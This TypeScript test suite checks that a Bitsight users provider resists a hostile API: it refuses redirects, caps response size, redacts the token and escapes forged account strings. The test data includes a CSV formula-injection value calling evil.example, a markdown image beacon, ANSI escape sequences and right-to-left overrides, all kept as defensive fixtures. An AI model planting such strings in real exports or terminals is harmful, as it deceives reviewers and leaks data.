// The trust boundary, tried as an attacker would: a Bitsight API on the loopback that
// redirects, lies about its pages, sends too much or stops halfway, echoes the token, and
// an account whose every text field was typed to forge what a reviewer reads. Through the
// CLI (in process) and through the SDK's dynamic-provider host.
import { strict as assert } from "assert";
import * as fs from "fs";
import MarkdownIt from "markdown-it";
import * as path from "path";
import { CSV_COLUMNS } from "../provider/cli/review/render";
import { FRAGMENT } from "../provider/client/errors";
import { parseUsersFile } from "../provider/usersfile/parse";
import type { Reply } from "./emulator/account";
import { addCaseTwin, HOSTILE, HOSTILE_STRINGS, hostileAccount } from "./emulator/hostile";
import { GROUPS, seededAccount, SEEDED, SEED_TOKEN } from "./emulator/seed";
import { BitsightEmulator } from "./emulator/server";
import { runCli } from "./helpers/cli";
import { parseCsvLine } from "./helpers/csv";
import { ProviderHost, REPO_ROOT, urn, USER_TYPE, type HostError, type Props } from "./helpers/host";
import { useHostAndEmulator } from "./helpers/emulator";
import { serializedProvider } from "./helpers/program";
import { tempDir } from "./helpers/temp";

const GITOPS = path.join(REPO_ROOT, "examples", "gitops", "users.yaml");
const USERS = "/ratings/v2/users";
/** Anything a terminal acts on or a reader cannot see, a line break aside. */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}]/u;

describe("the trust boundary", function () {
    this.timeout(30_000);
    let emu: BitsightEmulator;
    /** Another origin on this machine, holding a forged account, that would accept the same token. */
    let other: BitsightEmulator;
    const api = (extra: Record<string, string> = {}) => ({ BITSIGHT_API_URL: emu.url, BITSIGHT_API_TOKEN: SEED_TOKEN, ...extra });

    before(async () => {
        emu = await BitsightEmulator.start();
        other = await BitsightEmulator.start();
    });
    beforeEach(() => {
        emu.reset(seededAccount());
        const forged = hostileAccount();
        forged.users.get(SEEDED.bob)!.roles = ["customer_admin"];
        other.reset(forged);
    });
    after(async () => {
        await emu.stop();
        await other.stop();
    });

    /** A copy of a users file in a folder of its own, so that pull may write it. */
    function copyOf(file: string): string {
        const dir = tempDir("bitsight-trust-");
        const copy = path.join(dir, "users.yaml");
        fs.copyFileSync(file, copy);
        return copy;
    }

    describe("1. redirects are never followed", () => {
        for (const status of [301, 302, 307, 308]) {
            it(`plan: a ${status} to another port of this host is an error naming its origin; the token never reaches it`, async () => {
                emu.inject({ path: USERS, times: 10, reply: { status, headers: { Location: `${other.url}${USERS}?limit=1000&offset=0` } } });
                const r = await runCli(["plan", GITOPS], api());
                assert.equal(r.code, 1);
                assert.match(
                    r.stderr,
                    new RegExp(`^bitsight-users: The Bitsight API answered GET /ratings/v2/users with a redirect \\(${status}\\) to ${other.url.replace(/\./g, "\\.")}\\. The provider follows no redirect.*Check bitsight:apiUrl / BITSIGHT_API_URL`),
                );
                assert.equal(r.stdout, "", "nothing of the other origin's answer is shown");
                assert.deepEqual(other.log, [], "nothing was sent to the redirect's target");
            });
        }

        it("pull --include-undeclared: a redirect to another host name writes nothing into the file", async () => {
            const file = copyOf(GITOPS);
            const before = fs.readFileSync(file, "utf8");
            const elsewhere = other.url.replace("127.0.0.1", "localhost");
            emu.inject({ path: USERS, times: 10, reply: { status: 302, headers: { Location: `${elsewhere}${USERS}` } } });
            const r = await runCli(["pull", file, "--include-undeclared"], api());
            assert.equal(r.code, 1);
            assert.match(r.stderr, new RegExp(`redirect \\(302\\) to ${elsewhere.replace(/\./g, "\\.")}\\.`));
            assert.equal(fs.readFileSync(file, "utf8"), before);
            assert.deepEqual(other.log, []);
        });
    });

    describe("2. account strings are rendered, never echoed", () => {
        beforeEach(() => emu.reset(hostileAccount()));

        it("plan --state: the mass-removal refusal names the stack's emails escaped, in text and markdown", async () => {
            const state = path.join(tempDir("bitsight-state-"), "state.json");
            const resources = HOSTILE_STRINGS.slice(0, 6).map((h, i) => ({ type: USER_TYPE, id: `f0000000-0000-4000-8000-00000000000${i}`, outputs: { email: `${h}@example.com`, onDelete: "delete" } }));
            fs.writeFileSync(state, JSON.stringify({ deployment: { resources } }));
            const empty = path.join(path.dirname(state), "users.yaml");
            fs.writeFileSync(empty, "users: []\n");
            const text = await runCli(["plan", empty, "--state", state], api());
            assert.match(text.stdout, /^REFUSED: /m);
            assert.doesNotMatch(text.stdout.replace(/\n/g, ""), UNSAFE);
            const markdown = await runCli(["plan", empty, "--state", state, "--format", "markdown"], api());
            assert.match(markdown.stdout, /:no_entry: \*\*Refused\.\*\*/);
            assertSafeMarkdown(markdown.stdout);
        });

        it("plan, text: one line per record, nothing a terminal acts on, no forged plan line", async () => {
            const r = await runCli(["plan", GITOPS], api());
            assert.equal(r.code, 2, r.stderr);
            assert.doesNotMatch(r.stdout.replace(/\n/g, ""), UNSAFE);
            const lines = r.stdout.split("\n");
            assert.ok(!lines.some((l) => l.startsWith("  + mallory@example.com")), "no forged creation line");
            assert.ok(lines.includes(`      formalName: "Mallory\\n  + mallory@example.com: Admin granted (customer_user -> customer_admin)" -> Bob Analyst`), r.stdout);
            assert.ok(lines.some((l) => l.includes('"\\u202emoc.elpmaxe\\u202c@example.com"')), "a right-to-left override is shown as an escape");
            // A long email (anyone can be invited with one) widens its own row, not every column.
            assert.ok(lines.includes(`  ? ${"-1@example.com".padEnd(42)}customer_user               Activated   All Companies         last login 2026-11-01`), r.stdout);
            assert.ok(lines.some((l) => l.startsWith(`  ? "=HYPERLINK(\\"http://evil.example/?\\"&A3,\\"Open report\\")@example.com" customer_user `)), r.stdout);
        });

        it("plan, markdown: no HTML, link, image or mention; every string readable", async () => {
            const r = await runCli(["plan", GITOPS, "--format", "markdown"], api());
            assert.equal(r.code, 2, r.stderr);
            assertSafeMarkdown(r.stdout);
        });

        it("review, markdown: the same", async () => {
            const r = await runCli(["review", GITOPS, "--format", "markdown", "--as-of", "2026-12-01"], api());
            assert.equal(r.code, 2, r.stderr);
            assertSafeMarkdown(r.stdout);
        });

        it("review, text: nothing a terminal acts on", async () => {
            const r = await runCli(["review", GITOPS, "--as-of", "2026-12-01"], api());
            assert.equal(r.code, 2, r.stderr);
            assert.doesNotMatch(r.stdout.replace(/\n/g, ""), UNSAFE);
        });

        it("review, CSV: no cell a spreadsheet would evaluate (OWASP), every record one row", async () => {
            const r = await runCli(["review", GITOPS, "--format", "csv", "--as-of", "2026-12-01"], api());
            assert.equal(r.code, 2, r.stderr);
            const records = csvRecords(r.stdout);
            assert.equal(records.length, 1 + emu.account.users.size + emu.account.apiTokens.length + emu.account.groups.length);
            for (const row of records) {
                assert.equal(row.length, CSV_COLUMNS.length);
                for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/, `cell ${JSON.stringify(cell)}`);
            }
            const names = records.map((row) => row[0]);
            assert.ok(names.includes(`'${HOSTILE.dde}@example.com`), "the formula is kept, as text");
            assert.ok(names.includes(`'${HOSTILE.formula}@example.com`));
        });

        it("plan and review, JSON: every invisible character escaped, the data intact", async () => {
            const r = await runCli(["plan", GITOPS, "--format", "json"], api());
            assert.doesNotMatch(r.stdout.replace(/\n/g, ""), UNSAFE);
            const emails = (JSON.parse(r.stdout) as { undeclared: { email: string }[] }).undeclared.map((u) => u.email);
            assert.ok(emails.includes(`${HOSTILE.rightToLeft}@example.com`));
        });

        it("export: what the loader refuses is not written but named; the file validates", async () => {
            const dir = tempDir("bitsight-export-");
            const out = path.join(dir, "users.yaml");
            const r = await runCli(["export", "--output", out], api());
            assert.equal(r.code, 1, "some users were left out");
            const text = fs.readFileSync(out, "utf8");
            assert.doesNotMatch(text.replace(/\n/g, ""), UNSAFE);
            const parsed = parseUsersFile(text, "users.yaml");
            const left = r.stderr.split("\n").filter((l) => l.startsWith("Not exported: "));
            assert.ok(left.some((l) => l.startsWith('Not exported: bob@example.com (b0000000-0000-4000-8000-000000000003): formalName: contains an invisible character U+000A (line feed')), r.stderr);
            assert.doesNotMatch(r.stderr.replace(/\n/g, ""), UNSAFE);
            const written = new Set(parsed.users.map((u) => u.args.email));
            assert.ok(!written.has("bob@example.com"));
            // Every account user is either in the file or named as left out: nobody disappears.
            const tokenUsers = [...emu.account.users.values()].filter((u) => u.is_company_api_token).length;
            assert.equal(written.size + left.length + tokenUsers, emu.account.users.size, r.stderr);
        });

        it("pull: a name the loader refuses is not pulled; the user is named; the rest is", async () => {
            const file = copyOf(GITOPS);
            const r = await runCli(["pull", file], api());
            assert.equal(r.code, 1);
            assert.match(r.stderr, /^Not pulled: bob@example\.com: the account's values would not pass validate \(formalName: contains an invisible character U\+000A/m);
            assert.doesNotMatch(r.stdout.replace(/\n/g, "") + r.stderr.replace(/\n/g, ""), UNSAFE);
            assert.ok(r.stdout.includes("carol@example.com: group Vendor Risk -> ![i](http://evil.example/p.png)"), r.stdout);
            parseUsersFile(fs.readFileSync(file, "utf8"), "users.yaml");
        });
    });

    describe("3. two users, one email", () => {
        const message = /Bitsight holds users whose emails differ only in case: bob@example\.com \(b0000000-0000-4000-8000-000000000003\) and Bob@example\.com \(d0000000-0000-4000-8000-0000000000ff\)\..*nothing was compared or written/;
        beforeEach(() => addCaseTwin(emu.account, SEEDED.bob));

        for (const args of [["plan", GITOPS], ["review", GITOPS], ["export"], ["pull", "FILE", "--include-undeclared"]]) {
            it(`${args[0]}: an error naming both guids, nothing written`, async () => {
                const file = copyOf(GITOPS);
                const before = fs.readFileSync(file, "utf8");
                const r = await runCli(args.map((a) => (a === "FILE" ? file : a)), api());
                assert.equal(r.code, 1);
                assert.match(r.stderr, message);
                assert.equal(r.stdout, "");
                assert.equal(fs.readFileSync(file, "utf8"), before);
                assert.deepEqual(emu.writes(), []);
            });
        }
    });

    describe("4. the token in an API's error message", () => {
        it("is redacted before the message is cut, and any long part of it too", async () => {
            const cases = [`${"x".repeat(190)}${SEED_TOKEN} and more`, `half of it: ${SEED_TOKEN.slice(6)}`, `its encoding: ${Buffer.from(`${SEED_TOKEN}:`).toString("base64").slice(0, 20)}`];
            for (const detail of cases) {
                emu.clearLog();
                emu.inject({ path: "/ratings/v1/access-groups", reply: { status: 400, body: { detail } } });
                const r = await runCli(["plan", GITOPS], api());
                assert.equal(r.code, 1);
                assert.match(r.stderr, /\[REDACTED\]/);
                for (const form of [SEED_TOKEN, Buffer.from(`${SEED_TOKEN}:`).toString("base64")]) {
                    for (let i = 0; i + FRAGMENT <= form.length; i++) assert.ok(!r.stderr.includes(form.slice(i, i + FRAGMENT)), `${form.slice(i, i + FRAGMENT)} in ${r.stderr}`);
                }
            }
        });
    });

    describe("5. a lying server costs bounded time and memory", () => {
        it("an answer over the size cap is refused while it streams", async () => {
            emu.inject({ path: USERS, oversized: { bytes: 3 * 1024 * 1024, announce: false } });
            const r = await runCli(["plan", GITOPS], api({ BITSIGHT_MAX_RESPONSE_MIB: "1" }));
            assert.equal(r.code, 1);
            assert.match(r.stderr, /The Bitsight API's answer to GET \/ratings\/v2\/users is larger than 1 MiB, the most the provider reads; it was not used\..*bitsight:maxResponseMiB/);
        });

        it("an answer that announces more than the cap is refused before it is read", async () => {
            emu.inject({ path: USERS, oversized: { bytes: 200 * 1024 * 1024, announce: true } });
            const r = await runCli(["plan", GITOPS], api());
            assert.equal(r.code, 1);
            assert.match(r.stderr, /is larger than 32 MiB \(it announced 200 MiB\)/);
        });

        it("a next link that never ends stops just past the pages the count announced, and says so", async () => {
            emu.account.pageCap = 2;
            let n = 0;
            for (const query of ["is_company_api_token=true", "status=Deactivated"]) emu.inject({ path: USERS, query, times: Infinity, rewrite: (reply) => reply });
            emu.inject({ path: USERS, times: Infinity, rewrite: (reply, url) => endless(reply, url, ++n) });
            const r = await runCli(["plan", GITOPS], api());
            assert.equal(r.code, 1);
            // 4 people in pages of 2: 2 pages needed, 2 more allowed.
            assert.match(r.stderr, /The Bitsight API's pagination of GET \/ratings\/v2\/users goes on past the 4 users its count announced: 4 pages read, 2 users, and still a next link\. Stopped there/);
            const listings = emu.requests().filter((q) => q.startsWith(`GET ${USERS}`) && q.includes("is_company_api_token=false") && !q.includes("status="));
            assert.equal(listings.length, 1 + 1 + 3, "the first page, the offset its count implies, then next links up to 4 pages in all");
        });

        it("a count larger than what arrives fails plan (what is missing would be planned for creation), warns in review, and costs one wave of pages", async () => {
            emu.account.pageCap = 2;
            emu.inject({ path: USERS, times: Infinity, rewrite: (reply) => withCount(reply, 500) });
            const planned = await runCli(["plan", GITOPS], api());
            assert.equal(planned.code, 1, planned.stderr);
            assert.match(planned.stderr, /GET \/ratings\/v2\/users announced 500 users but listed \d+: a user missing from the listing would be planned for creation, so nothing was decided from it/);
            assert.ok(emu.requests().length < 40, `${emu.requests().length} requests`);
            const reviewed = await runCli(["review", GITOPS], api());
            assert.equal(reviewed.code, 2, reviewed.stderr);
            assert.match(reviewed.stderr, /^Warning: GET \/ratings\/v2\/users announced 500 users but listed \d+; users may be missing/m);
        });

        it("the same user on two pages with different content is an error, not the later copy", async () => {
            emu.account.pageCap = 2;
            emu.inject({ path: USERS, query: "offset=2", rewrite: (reply) => withResults(reply, (rows) => [...rows, { ...rows[0]!, guid: SEEDED.alice, formal_name: "Alice Impostor" }]) });
            const r = await runCli(["plan", GITOPS], api());
            assert.equal(r.code, 1);
            assert.match(r.stderr, /listed user b0000000-0000-4000-8000-000000000002 twice with different content/);
        });

        it("a connection closed in the middle of a body is noticed at once and retried", async function () {
            // Unnoticed, the attempt would wait for its 25 s time-out and this test time out.
            this.timeout(8_000);
            emu.inject({ path: USERS, query: /is_company_api_token=true$/, reset: "mid-body" });
            const r = await runCli(["plan", GITOPS], api({ BITSIGHT_ATTEMPT_TIMEOUT: "25" }));
            assert.equal(r.code, 2, r.stderr);
            const tokenPages = emu.requests().filter((q) => q === `GET ${USERS}?limit=1000&offset=0&sort=guid&is_company_api_token=true`);
            assert.equal(tokenPages.length, 2, "sent again after the cut");
        });
    });
});

type Page = { links: { next: string | null; previous: string | null }; count?: number; results: Record<string, unknown>[] };

function withCount(reply: Reply, count: number): Reply {
    return { ...reply, body: { ...(reply.body as Page), count } };
}

function withResults(reply: Reply, f: (rows: Record<string, unknown>[]) => Record<string, unknown>[]): Reply {
    const page = reply.body as Page;
    return { ...reply, body: { ...page, results: f(page.results) } };
}

/** Pages after the first are empty, and every page has a next link never seen before. */
function endless(reply: Reply, url: URL, n: number): Reply {
    const page = reply.body as Page;
    const next = new URL(url.href);
    next.searchParams.set("cursor", String(n));
    const first = url.searchParams.get("offset") === "0" && !url.searchParams.has("cursor");
    return { ...reply, body: { ...page, results: first ? page.results : [], links: { ...page.links, next: next.href } } };
}

/** Markdown whose only HTML is ours (code, details, summary) and that holds no link, image or emphasis from the account. */
function assertSafeMarkdown(text: string): void {
    const md = new MarkdownIt({ html: true, linkify: true });
    const walk = (tokens: ReturnType<InstanceType<typeof MarkdownIt>["parse"]>): void => {
        for (const tok of tokens) {
            assert.ok(!["image", "link_open", "em_open", "s_open"].includes(tok.type), `${tok.type}: ${tok.content}`);
            if (tok.type === "html_inline") assert.match(tok.content, /^<\/?code>$/);
            if (tok.type === "html_block") assert.match(tok.content.trim(), /^(<details><summary>[^<]*<\/summary>|<\/details>)$/);
            if (tok.children) walk(tok.children);
        }
    };
    walk(md.parse(text, {}));
    assert.doesNotMatch(text.replace(/\n/g, ""), UNSAFE);
}

function csvRecords(text: string): string[][] {
    const records: string[][] = [];
    let rest = text;
    while (rest) {
        // A record ends at a CRLF outside quotes.
        let end = 0;
        let quoted = false;
        for (; end < rest.length; end++) {
            if (rest[end] === '"') quoted = !quoted;
            else if (!quoted && rest.startsWith("\r\n", end)) break;
        }
        records.push(parseCsvLine(rest.slice(0, end)));
        rest = rest.slice(end + 2);
    }
    return records;
}

describe("the trust boundary, through the SDK's dynamic-provider host", function () {
    this.timeout(60_000);
    let emu: BitsightEmulator;
    let other: BitsightEmulator;
    let host: ProviderHost;
    let providerText: string;
    const URN = urn("bob");
    const declared = (extra: Props = {}): Props => ({
        email: "bob@example.com",
        formalName: "Bob Analyst",
        friendlyName: "Bob",
        role: "customer_user",
        group: GROUPS.secops.guid,
        ...extra,
        __provider: providerText,
    });

    const env = useHostAndEmulator();
    before(async () => {
        providerText = await serializedProvider();
        other = await BitsightEmulator.start();
    });
    beforeEach(() => {
        ({ emu, host } = env);
        other.reset(seededAccount());
    });
    after(async () => {
        await other.stop();
    });

    it("a 307 on PATCH is not followed: the body and the token stay home, and the update fails saying why", async () => {
        const { inputs } = await host.check(URN, {}, declared({ adopt: true }));
        const { id, outs } = await host.create(URN, inputs);
        emu.clearLog();
        emu.inject({ method: "PATCH", reply: { status: 307, headers: { Location: `${other.url}/ratings/v2/users/${id}` } } });
        const news = (await host.check(URN, inputs, declared({ adopt: true, role: "customer_admin" }))).inputs;
        await assert.rejects(host.update(URN, id, outs, news), (err: Error) => {
            assert.match(err.message, new RegExp(`redirect \\(307\\) to ${other.url.replace(/\./g, "\\.")}\\. The provider follows no redirect`));
            return true;
        });
        assert.deepEqual(other.log, [], "nothing was sent to the redirect's target");
        assert.equal(emu.writes().length, 1, "the PATCH was sent once, to the configured origin only");
        assert.deepEqual(emu.account.users.get(SEEDED.bob)!.roles, ["customer_user"]);
    });

    it("create and adopt refuse an email two account users share in different case, naming both, and write nothing", async () => {
        addCaseTwin(emu.account, SEEDED.bob);
        for (const adopt of [false, true]) {
            const { inputs } = await host.check(URN, {}, declared({ adopt }));
            await assert.rejects(host.create(URN, inputs), /emails differ only in case: bob@example\.com \(b0000000-0000-4000-8000-000000000003\) and Bob@example\.com \(d0000000-0000-4000-8000-0000000000ff\)/);
        }
        assert.deepEqual(emu.writes(), []);
    });

    it("an account string in a partial failure reaches the engine escaped: the message, and the reasons the state keeps", async () => {
        emu.account.users.get(SEEDED.bob)!.formal_name = "Bob \u202eevil\u202c Analyst";
        // The PATCH answers 200 and applies nothing: the read-back finds the field did not take.
        emu.inject({ method: "PATCH", reply: { status: 200, body: {} } });
        const { inputs } = await host.check(URN, {}, declared({ adopt: true }));
        await assert.rejects(host.create(URN, inputs), (err: HostError) => {
            assert.match(err.message, /did not apply formalName: "Bob \\u202eevil\\u202c Analyst" -> "Bob Analyst"/);
            assert.equal(err.initFailed?.id, SEEDED.bob);
            assert.ok(err.initFailed!.reasons.length > 0);
            for (const reason of err.initFailed!.reasons) assert.doesNotMatch(reason, UNSAFE, reason);
            return true;
        });
    });

    it("an account string in a hook's error reaches the engine escaped", async () => {
        emu.account.users.get(SEEDED.bob)!.status = "Activated\x1b[2J\n  + eve@example.com: Admin granted" as never;
        const { inputs } = await host.check(URN, {}, declared());
        await assert.rejects(host.create(URN, inputs), (err: Error) => {
            assert.match(err.message, /status Activated\\x1b\[2J\\n {2}\+ eve@example\.com: Admin granted\)/);
            assert.doesNotMatch(err.message, UNSAFE);
            return true;
        });
    });
});
